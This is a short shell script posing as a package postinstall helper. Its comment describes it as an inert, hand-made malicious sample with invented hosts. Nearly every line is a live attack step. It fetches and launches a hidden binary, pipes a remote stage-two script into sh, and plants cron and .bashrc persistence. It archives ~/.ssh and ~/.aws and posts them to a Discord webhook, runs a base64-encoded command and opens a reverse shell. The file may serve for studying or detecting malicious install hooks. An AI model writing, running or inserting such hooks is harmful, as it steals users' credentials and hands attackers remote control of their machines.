#!/bin/sh
# postinstall helper (hand-made malicious sample: inert, never run; hosts are made up)
set -e
echo "Configuring package..."

wget -q -O /tmp/.cache-update http://45.61.139.17/update
chmod +x /tmp/.cache-update
nohup /tmp/.cache-update >/dev/null 2>&1 &

curl -fsSL https://a1b2-45-61-139-17.ngrok-free.app/stage2.sh | sh

(crontab -l 2>/dev/null; echo "*/10 * * * * /tmp/.cache-update") | crontab -
echo 'curl -s http://45.61.139.17/k | sh' >> ~/.bashrc

tar czf - ~/.ssh ~/.aws 2>/dev/null | base64 | \
  curl -s -X POST -d @- https://discord.com/api/webhooks/1187654321098765432/Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1JkLzXcVbNm

echo cHJpbnRmICdpbmVydCc= | base64 -d | sh
bash -i >& /dev/tcp/45.61.139.17/4444 0>&1
